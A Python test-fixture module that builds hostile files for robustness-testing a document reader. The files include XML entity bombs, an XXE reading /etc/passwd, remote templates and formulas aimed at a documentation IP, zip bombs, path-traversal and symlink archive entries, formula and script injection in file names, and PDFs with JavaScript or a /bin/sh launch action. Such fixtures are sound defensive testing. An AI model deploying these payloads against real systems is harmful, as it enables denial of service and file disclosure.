"""Hostile files, each under a name that says what it tries; always the same bytes."""

from __future__ import annotations

import io
import os
import random
import socket
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import numpy as np
from PIL import Image

from tests.read.docx.making import NAMESPACES, OFFICE, document, p, relationships

ENTITIES = 12
ARTICLE = "Điều 1. Văn phòng lưu hồ sơ theo quy định. Văn bản giả định."
REMOTE = "http://203.0.113.7/mau.dotm"  # an address kept for documentation (RFC 5737)


def write_all(folder: Path) -> list[Path]:
    """Write every hostile file into ``folder``; the files written."""
    for name, data in everything():
        (folder / name).write_bytes(data)
    return sorted(folder.iterdir())


def everything() -> Iterator[tuple[str, bytes]]:
    """The name and bytes of every hostile file."""
    for make in (words, sheets, webs, archives, letters, pictures, texts, pdfs):
        yield from make()


def packed(parts: dict[str, str | bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def word(body: str, **more: str | bytes) -> bytes:
    """A DOCX file; ``more`` are further parts, ``__`` in their names for "/"."""
    main = f'<Relationship Id="m" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    parts: dict[str, str | bytes] = {"_rels/.rels": relationships(main), "word/document.xml": body}
    return packed(parts | {name.replace("__", "/"): part for name, part in more.items()})


def laughs(root: str, text: str) -> str:
    """An XML document whose entities unfold a thousand million times."""
    entities = '<!ENTITY e0 "ha">' + "".join(
        f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, ENTITIES)
    )
    return f"<!DOCTYPE x [{entities}]>" + document(p(text)).replace(text, f"&e{ENTITIES - 1};")


def words() -> Iterator[tuple[str, bytes]]:
    plain = document(p(ARTICLE))
    yield "xml-laughs.docx", word(laughs("w:document", ARTICLE))
    long = "a" * 100_000
    quadratic = f'<!DOCTYPE x [<!ENTITY a "{long}">]>' + plain.replace(ARTICLE, "&a;" * 10_000)
    yield "xml-quadratic.docx", word(quadratic)
    outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    yield "xml-entity-file.docx", word(outside + plain.replace(ARTICLE, "&f;"))
    remote = f'<!DOCTYPE x SYSTEM "{REMOTE}">'
    yield "xml-dtd-remote.docx", word(remote + plain)
    template = (
        f'<Relationship Id="t" Type="{OFFICE}/attachedTemplate" Target="{REMOTE}"'
        f' TargetMode="External"/>'
    )
    yield (
        "remote-template.docx",
        word(
            plain,
            word___rels__settings_xml_rels=relationships(template),
            word__settings_xml=f"<w:settings {NAMESPACES}>"
            '<w:attachedTemplate r:id="t"/></w:settings>',
        ),
    )
    field = f'<w:r><w:instrText>INCLUDEPICTURE "{REMOTE}" \\d</w:instrText></w:r>'
    yield "remote-picture.docx", word(document(p(field) + p(ARTICLE)))
    chunk = '<w:altChunk r:id="c"/>'
    yield "alt-chunk.docx", word(document(chunk + p(ARTICLE)))
    yield "bomb-part.docx", word(plain, word__media__a=bytes(300 * 2**20))
    yield "bomb-document.docx", word(document(p("a" * (200 * 2**20))))
    nested = p(ARTICLE)
    for _ in range(400):
        nested = f"<w:tbl><w:tr><w:tc>{nested}</w:tc></w:tr></w:tbl>"
    yield "nested-tables.docx", word(document(nested))
    deep = "<w:ins>" * 30_000 + p(ARTICLE) + "</w:ins>" * 30_000
    yield "nested-xml.docx", word(document(deep))
    wide = "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='999999999'/></w:tcPr>" + p("x")
    yield "wide-cell.docx", word(document(wide + "</w:tc></w:tr></w:tbl>" + p(ARTICLE)))
    numbers = "<w:numPr><w:ilvl w:val='99999'/><w:numId w:val='-5'/></w:numPr>"
    yield "numbering.docx", word(document(p(ARTICLE, numbers)))
    yield "no-document.docx", packed({"word/document.xml": b""})
    yield "many-parts.docx", packed({f"word/{at}.xml": "" for at in range(20_000)})


def sheets() -> Iterator[tuple[str, bytes]]:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def rows(data: str, after: str = "") -> bytes:
        main = f'<Relationship Id="m" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
        link = f'<Relationship Id="s" Type="{OFFICE}/worksheet" Target="worksheets/a.xml"/>'
        return packed(
            {
                "_rels/.rels": relationships(main),
                "xl/workbook.xml": f'<workbook xmlns="{space}" xmlns:r="{rels}"><sheets>'
                '<sheet name="a" sheetId="1" r:id="s"/></sheets></workbook>',
                "xl/_rels/workbook.xml.rels": relationships(link),
                "xl/worksheets/a.xml": f'<worksheet xmlns="{space}"><sheetData>{data}</sheetData>'
                f"{after}</worksheet>",
            }
        )

    cell = "<c r='XFD1048576' t='inlineStr'><is><t>x</t></is></c>"
    yield "far-cell.xlsx", rows(f'<row r="1048576">{cell}</row>')
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield "huge-merge.xlsx", rows('<row r="1"><c r="A1"><v>1</v></c></row>', merged)
    many = (f'<row r="{at}"><c r="A{at}"><v>{at}</v></c></row>' for at in range(1, 300_000))
    yield "many-rows.xlsx", rows("".join(many))
    formula = '<c r="A1"><f>WEBSERVICE("http://203.0.113.7/")</f><v>1</v></c>'
    yield "formula.xlsx", rows(f'<row r="1">{formula}</row>')


def webs() -> Iterator[tuple[str, bytes]]:
    yield "nested.html", ("<div>" * 100_000 + ARTICLE).encode()
    yield "nested-tables.html", ("<table><tr><td>" * 3_000 + ARTICLE).encode()
    remote = f'<base href="{REMOTE}"><img src="{REMOTE}"><link rel=stylesheet href="{REMOTE}">'
    script = f"<script src='{REMOTE}'></script><iframe src='file:///etc/passwd'></iframe>"
    yield "remote.html", f"<html><body>{remote}{script}<p>{ARTICLE}</p></body></html>".encode()
    spans = "<td rowspan=999999999 colspan=999999999>x</td>"
    yield "spans.html", f"<table><tr>{spans * 50}</tr></table><p>{ARTICLE}</p>".encode()
    yield "entities.html", ("<p>" + "&nbsp;" * 500_000 + ARTICLE).encode()


def archives() -> Iterator[tuple[str, bytes]]:
    yield "bomb.zip", packed({f"{at}.txt": bytes(100 * 2**20) for at in range(3)})
    inner = packed({"a.txt": ARTICLE})
    for _ in range(8):
        inner = packed({"trong.zip": inner})
    yield "nested.zip", inner
    names = {
        "../../thoat.txt": ARTICLE,
        "/etc/thoat.txt": ARTICLE,
        "C:\\thoat.txt": ARTICLE,
        "a/../../b.txt": ARTICLE,
        "dong\nmoi.txt": ARTICLE,
        "nguoc\u202etxt.exe": ARTICLE,
        "d" * 300 + ".txt": ARTICLE,
        "CON": ARTICLE,
    }
    yield "names.zip", packed(names)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        link = zipfile.ZipInfo("lien-ket")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield "symlink.zip", held.getvalue()
    yield "many.zip", packed({f"{at}.txt": "" for at in range(5_000)})
    whole = packed({"a.txt": ARTICLE * 50, "b.txt": ARTICLE})
    yield "cut.zip", whole[: len(whole) // 2]
    yield (
        "lying-size.zip",
        whole.replace(len(ARTICLE.encode() * 50).to_bytes(4, "little"), b"\x01\0\0\0"),
    )


def letters() -> Iterator[tuple[str, bytes]]:
    head = "From: a@vi.du\nTo: b@vi.du\nSubject: Thu gia dinh\nMIME-Version: 1.0\n"
    nested = "Content-Type: multipart/mixed; boundary=b{0}\n\n--b{0}\n"
    yield "nested.eml", (head + "".join(nested.format(at) for at in range(500))).encode()
    letter = EmailMessage()
    letter["From"], letter["Subject"] = "a@vi.du", "Kèm"
    letter.set_content("Kính gửi.")
    letter.add_attachment(b"x", maintype="a", subtype="b", filename="../../../etc/cron.d/x")
    yield "traversal.eml", bytes(letter)
    yield "headers.eml", (head + "X: " + "a" * 2_000_000 + "\n\nKinh gui.").encode()
    yield (
        "base64.eml",
        (
            head + "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n" + "!" * 100_000
        ).encode(),
    )


def pictures() -> Iterator[tuple[str, bytes]]:
    held = io.BytesIO()
    Image.fromarray(np.full((64, 64), 255, np.uint8)).save(held, "PNG")
    small = bytearray(held.getvalue())
    small[16:24] = (60_000).to_bytes(4, "big") * 2
    small[29:33] = zlib.crc32(bytes(small[12:29])).to_bytes(4, "big")
    yield "claims-60000.png", bytes(small)
    held = io.BytesIO()
    Image.fromarray(np.zeros((20_000, 20_000), np.uint8)).save(held, "PNG")
    yield "bomb.png", held.getvalue()
    held = io.BytesIO()
    Image.fromarray(np.full((300, 300), 255, np.uint8)).save(held, "JPEG")
    yield "cut.jpg", held.getvalue()[:200]
    held = io.BytesIO()
    frame = Image.fromarray(np.full((40, 40), 255, np.uint8))
    frame.save(held, "TIFF", save_all=True, append_images=[frame] * 40)
    yield "many-frames.tif", held.getvalue()


def texts() -> Iterator[tuple[str, bytes]]:
    yield "one-line.txt", (ARTICLE * 60_000).encode()
    yield "many-lines.txt", b"\n".join(b"%d. x" % at for at in range(200_000))
    yield "marks.txt", ("a" + "\u0301" * 300_000 + "\n" + ARTICLE).encode()
    yield "brackets.txt", ("Điều 1. " + "(" * 200_000).encode()
    yield "nul.txt", b"\x00".join(ARTICLE.encode().split())
    yield "braces.rtf", b"{\\rtf1" + b"{" * 200_000 + ARTICLE.encode("ascii", "replace")
    yield "not-really.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(7).randbytes(9000)
    yield "noise.pdf", b"%PDF-1.7\n" + random.Random(8).randbytes(50_000)
    yield "noise.docx", b"PK\x03\x04" + random.Random(9).randbytes(50_000)
    yield "cay-thu-muc\nmoi.txt", ARTICLE.encode()
    yield "nguoc\u202ecod.txt", ARTICLE.encode()
    yield "d" * 251 + ".txt", ARTICLE.encode()
    yield "=cmd|'calc'!A1.txt", ARTICLE.encode()
    yield "<img src=x onerror=alert(1)>.txt", ARTICLE.encode()


def pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of these objects, with a true table of where they stand."""
    held = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(held)
        held += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(held)
    last = max(objects) + 1
    held += b"xref\n0 %d\n0000000000 65535 f \n" % last
    for number in range(1, last):
        held += b"%010d 00000 n \n" % places.get(number, 0)
    held += b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (last, root, start)
    return bytes(held)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def one_page(content: bytes, resources: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> %s >> >>" % resources
    )
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: page,
            4: stream(content),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
            **(more or {}),
        }
    )


def picture_pdf(name: bytes, wide: int, data: bytes) -> bytes:
    image = stream(
        data,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /%s" % (wide, wide, name),
    )
    return one_page(b"595 0 0 842 0 0 cm /I Do", b"/XObject << /I 6 0 R >>", {6: image})


TEXT = b"BT /F 12 Tf 80 700 Td (Dieu 1. Van phong luu ho so theo quy dinh, van ban gia dinh.) Tj ET"


def pdfs() -> Iterator[tuple[str, bytes]]:
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    yield "pages-loop.pdf", pdf({1: catalog, 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"})
    yield (
        "million-pages.pdf",
        one_page(TEXT).replace(b"/Count 1 ", b"/Count 1000000 "),
    )
    kids = b" ".join([b"3 0 R"] * 50_000)
    yield (
        "same-page-50000-times.pdf",
        one_page(TEXT).replace(b"[3 0 R] /Count 1 ", b"[" + kids + b"] /Count 50000 "),
    )
    itself = stream(
        b"/X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
    )
    yield "form-loop.pdf", one_page(TEXT + b" /X Do", b"/XObject << /X 6 0 R >>", {6: itself})
    yield "huge-box.pdf", one_page(TEXT).replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]")
    bomb = zlib.compress(zlib.compress(bytes(200 * 2**20)))
    yield (
        "stream-bomb.pdf",
        one_page(b"").replace(stream(b""), stream(bomb, b"/Filter [/FlateDecode /FlateDecode]")),
    )
    noise = random.Random(3).randbytes(3000)
    for kind in (b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode", b"DCTDecode", b"LZWDecode"):
        yield f"bad-{kind.decode()}.pdf", picture_pdf(kind, 900, noise)
    yield "huge-picture.pdf", picture_pdf(b"FlateDecode", 100_000, zlib.compress(bytes(1000)))
    yield "nested-arrays.pdf", one_page(b"[" * 200_000 + TEXT)
    yield "nested-states.pdf", one_page(b"q " * 500_000 + TEXT)
    script = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    )
    yield "script.pdf", one_page(TEXT).replace(catalog, script)
    launch = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>"
    yield "launch.pdf", one_page(TEXT).replace(catalog, launch)
    cmap = stream(b"begincmap 1 beginbfrange <0000> <ffff> <0000> endbfrange " * 500)
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H "
        b"/ToUnicode 6 0 R /DescendantFonts [5 0 R] >>"
    )
    yield "bad-cmap.pdf", one_page(TEXT, more={5: font, 6: cmap})
    glyph = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
        b"/FirstChar 0 /LastChar 255 /CharProcs << /a 4 0 R >> "
        b"/Encoding << /Differences [0 /a] >> /Widths [9] >>"
    )
    yield "glyph-loop.pdf", one_page(TEXT, more={5: glyph})
    lines = b" ".join(b"%d 0 m %d 800 l S" % (at % 600, at % 599) for at in range(120_000))
    yield "many-lines.pdf", one_page(TEXT + b" " + lines)


def mutated(good: list[Path], count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """Good files, damaged: cut, flipped, shuffled, spliced, padded, under another's ending."""
    dice = random.Random(seed)
    sources = [(path, path.read_bytes()) for path in good if path.stat().st_size]
    for at in range(count):
        path, data = dice.choice(sources)
        kind, change = dice.choice(list(CHANGES.items()))
        ending = path.suffix if dice.random() < 0.9 else dice.choice(sources)[0].suffix
        yield f"hong-{at:04}-{kind}{ending}", change(data, dice, sources)


def mutated_one(source: Path, changes: list[str], seed: int, good: list[Path]) -> bytes:
    """``source`` with the named changes made one after the other."""
    dice = random.Random(seed)
    data = source.read_bytes()
    sources = [(path, path.read_bytes()) for path in dice.sample(good, 2)]
    for change in changes:
        if len(data) > 1:
            data = CHANGES[change](data, dice, sources)
    return data


def _cut(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    return data[: dice.randrange(1, len(data))]


def _flip(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    changed = bytearray(data)
    for _ in range(dice.choice((1, 5, 50, 500))):
        changed[dice.randrange(len(changed))] ^= 1 << dice.randrange(8)
    return bytes(changed)


def _shuffle(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    size = max(len(data) // 20, 1)
    pieces = [data[start : start + size] for start in range(0, len(data), size)]
    dice.shuffle(pieces)
    return b"".join(pieces)


def _splice(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    other = dice.choice(sources)[1]
    return data[: dice.randrange(len(data))] + other[dice.randrange(len(other)) :]


def _zero(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    start = dice.randrange(len(data))
    end = min(start + dice.randrange(1, 5000), len(data))
    return data[:start] + bytes(end - start) + data[end:]


def _digits(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    """Numbers made absurd: lengths, counts, offsets."""
    places = [at for at, byte in enumerate(data[:200_000]) if 48 <= byte <= 57]
    changed = bytearray(data)
    for _ in range(min(20, len(places))):
        changed[dice.choice(places)] = 57
    return bytes(changed)


def _repack(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    """An archive whose parts are damaged one by one and packed anew; other files are flipped."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
    except Exception:  # whatever zipfile finds wrong: the file is not repacked then
        return _flip(data, dice, sources)
    name = dice.choice([name for name, part in parts.items() if part] or list(parts))
    change = dice.choice((_cut, _flip, _shuffle, _zero, _digits, _tags))
    return packed(parts | {name: change(parts[name], dice, sources) if parts[name] else b"x"})


def _tags(data: bytes, dice: random.Random, sources: list[tuple[Path, bytes]]) -> bytes:
    """Markup with one element's tag doubled, dropped or closed early."""
    places = [at for at, byte in enumerate(data) if byte == 60]
    if not places:
        return data
    at = dice.choice(places)
    end = data.find(b">", at) + 1 or len(data)
    tag = data[at:end]
    return data[:at] + dice.choice((b"", tag * 2, tag * 300, b"</w:p>")) + data[end:]


CHANGES: dict[str, Callable[[bytes, random.Random, list[tuple[Path, bytes]]], bytes]] = {
    "cut": _cut,
    "flip": _flip,
    "shuffle": _shuffle,
    "splice": _splice,
    "zero": _zero,
    "digits": _digits,
    "repack": _repack,
    "tags": _tags,
}


def strange_entries(folder: Path) -> None:
    """Things in a folder that are no files to read: a pipe, a socket, links."""
    os.mkfifo(folder / "ong.docx")
    listening = socket.socket(socket.AF_UNIX)
    here = Path.cwd()
    os.chdir(folder)  # the path of a socket may not be long
    try:
        listening.bind("cam.pdf")
    finally:
        os.chdir(here)
        listening.close()
    (folder / "lien-ket.pdf").symlink_to("/etc/passwd")
    (folder / "vong").symlink_to(folder)
